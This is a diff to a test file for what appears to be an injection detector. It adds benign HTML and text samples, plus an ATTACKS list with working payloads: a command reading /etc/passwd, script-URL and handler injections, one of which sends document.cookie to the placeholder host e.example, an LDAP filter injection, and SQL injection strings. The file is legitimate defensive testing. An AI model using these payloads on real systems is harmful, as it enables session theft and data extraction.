@@ -11,6 +11,20 @@ from tests.detection.requests import findings_in
 
 TEXTS = r"""
 <button onclick="history.back()">Back</button>
+<td class="num">(12)</td>
+<span class="x">(empty)</span>
+<a href="https://shop.example.com/">(more)</a>
+<p style="color:#333">(see below)</p>
+<li class="a">(last update: Monday)</li>
+int(*)(void*),
+$1 (requer $2)
+$1 (Alle naamruumdes)
+L'Oréal & L'Occitane
+d'Or & d'Argent
+5' & 6'
+Several of the Boolean flags in pg_class are maintained
+Use information_schema to list the columns
+What does pg_sleep do?
 <button type="button" class="btn btn-primary" onclick="window.history.go(-1); return false;">Back</button>
 <a href="#" onclick="return false;">More</a>
 <a href="javascript:void(0)">Menu</a>
@@ -77,6 +91,13 @@ def test_a_fragment_that_does_nothing_passes(inspection: Inspection, place: str,
 
 
 ATTACKS = (
+    # programs in brackets behind a tag, names that are filters, catalogues that are read
+    '<p class="x">(id)',
+    '<p class="x">(cat /etc/passwd)',
+    '<a href="javascript:alert(1)">(more)</a>',
+    "*)(uid=*))(|(uid=*",
+    "L' or 1 or 'L",
+    "x union select table_name from information_schema tables",
     # handlers that do something else, or more
     '<button onclick="history.back();alert(1)">x</button>',
     "<button onclick=\"location='//e.example/'+document.cookie\">x</button>",
